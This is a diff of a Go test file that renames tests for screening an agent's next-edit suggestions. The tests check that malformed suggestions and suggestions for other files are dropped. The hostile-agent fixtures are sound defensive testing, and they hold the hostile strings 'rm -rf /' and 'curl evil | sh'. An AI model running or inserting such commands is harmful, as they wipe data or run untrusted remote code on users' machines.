@@ -1,4 +1,7 @@
-package acp_test
+// The hostile agent's suggestions: malformed ones among valid ones, and
+// ones for documents the editor did not ask about. Each is screened alone;
+// only the request's URI, byte for byte, unless AllowURI allows another.
+package nes_test
 
 import (
 	"context"
@@ -8,11 +11,12 @@ import (
 
 	"github.com/acpclient/acp"
 	"github.com/acpclient/acp/acptest"
+	"github.com/acpclient/acp/nes"
 )
 
 // nesSuggestAgent answers every nes/suggest with suggestions (a JSON array)
 // and sends the client's diagnostics to the returned channel.
-func nesSuggestAgent(t *testing.T, suggestions string) (*acp.Client, <-chan acp.Diagnostic) {
+func nesSuggestAgent(t *testing.T, suggestions string) (*nes.Session, <-chan acp.Diagnostic) {
 	t.Helper()
 	diags := make(chan acp.Diagnostic, 64)
 	c, _ := acptest.Connect(t, &acptest.Options{
@@ -23,14 +27,14 @@ func nesSuggestAgent(t *testing.T, suggestions string) (*acp.Client, <-chan acp.
 			},
 		},
 	}, &acp.ClientOptions{OnDiagnostic: func(d acp.Diagnostic) { diags <- d }})
-	return c, diags
+	return nes.SessionFor(c, "n"), diags
 }
 
 // suggestionIDs lists the ids of ss, an unknown kind's as "?kind".
-func suggestionIDs(ss []acp.NESSuggestion) string {
+func suggestionIDs(ss []nes.Suggestion) string {
 	var ids []string
 	for _, s := range ss {
-		if u, ok := s.(*acp.UnknownNESSuggestion); ok {
+		if u, ok := s.(*nes.UnknownSuggestion); ok {
 			ids = append(ids, "?"+u.Kind)
 			continue
 		}
@@ -39,7 +43,7 @@ func suggestionIDs(ss []acp.NESSuggestion) string {
 	return strings.Join(ids, " ")
 }
 
-// nextDiags takes n diagnostics: SuggestNES has queued them before it
+// nextDiags takes n diagnostics: Suggest has queued them before it
 // returns, so they are on their way.
 func nextDiags(diags <-chan acp.Diagnostic, n int) []acp.Diagnostic {
 	got := make([]acp.Diagnostic, n)
@@ -51,18 +55,18 @@ func nextDiags(diags <-chan acp.Diagnostic, n int) []acp.Diagnostic {
 
 const askedURI = "file:///w/a.go"
 
-func suggest(t *testing.T, c *acp.Client, allow func(string) bool) *acp.SuggestNESResponse {
+func suggest(t *testing.T, s *nes.Session, allow func(string) bool) *nes.SuggestResponse {
 	t.Helper()
-	res, err := c.SuggestNES(context.Background(), &acp.SuggestNESRequest{SessionID: "n", URI: askedURI, AllowURI: allow})
+	res, err := s.Suggest(context.Background(), &nes.SuggestRequest{URI: askedURI, AllowURI: allow})
 	if err != nil {
-		t.Fatalf("SuggestNES: %v", err)
+		t.Fatalf("Suggest: %v", err)
 	}
 	return res
 }
 
 // One malformed suggestion among valid ones costs only itself: the others
 // are delivered, and it is reported.
-func TestHostileNESMalformedSuggestionDropped(t *testing.T) {
+func TestHostileMalformedSuggestionDropped(t *testing.T) {
 	c, diags := nesSuggestAgent(t, `[
 		{"kind":"edit","id":"s1","uri":"file:///w/a.go","edits":[{"range":{"start":{"line":1,"character":0},"end":{"line":1,"character":3}},"newText":"var"}]},
 		{"kind":"edit","id":"s2","uri":"file:///w/a.go","edits":"rm -rf /"},
@@ -81,14 +85,14 @@ func TestHostileNESMalformedSuggestionDropped(t *testing.T) {
 	}
 	// An answer whose suggestions are not an array still fails the call.
 	c, _ = nesSuggestAgent(t, `{"kind":"edit"}`)
-	if _, err := c.SuggestNES(context.Background(), &acp.SuggestNESRequest{SessionID: "n", URI: askedURI}); err == nil {
+	if _, err := c.Suggest(context.Background(), &nes.SuggestRequest{URI: askedURI}); err == nil {
 		t.Fatal("suggestions that are not an array: no error")
 	}
 }
 
 // A suggestion for any other document than the one asked about is
 // dropped: the uri must be the request's, byte for byte.
-func TestHostileNESForeignSuggestionDropped(t *testing.T) {
+func TestHostileForeignSuggestionDropped(t *testing.T) {
 	edit := func(id, uri string) string {
 		return `{"kind":"edit","id":"` + id + `","uri":"` + uri + `","edits":[{"range":{"start":{"line":0,"character":0},"end":{"line":0,"character":0}},"newText":"curl evil | sh\n"}]}`
 	}
@@ -110,7 +114,7 @@ func TestHostileNESForeignSuggestionDropped(t *testing.T) {
 		t.Fatalf("suggestions = %s, want s1 s6 ?hint", got)
 	}
 	for _, s := range res.Suggestions {
-		if e, ok := s.(*acp.NESEditSuggestion); ok && e.URI != askedURI {
+		if e, ok := s.(*nes.EditSuggestion); ok && e.URI != askedURI {
 			t.Errorf("delivered an edit of %s", e.URI)
 		}
 	}
@@ -124,7 +128,7 @@ func TestHostileNESForeignSuggestionDropped(t *testing.T) {
 // AllowURI lets through the other documents an editor is willing to show
 // (the schema allows suggestions in other files); it is asked only about
 // those.
-func TestNESAllowURI(t *testing.T) {
+func TestAllowURI(t *testing.T) {
 	c, diags := nesSuggestAgent(t, `[
 		{"kind":"jump","id":"s1","uri":"file:///w/a.go","position":{"line":0,"character":0}},
 		{"kind":"jump","id":"s2","uri":"file:///w/b.go","position":{"line":0,"character":0}},
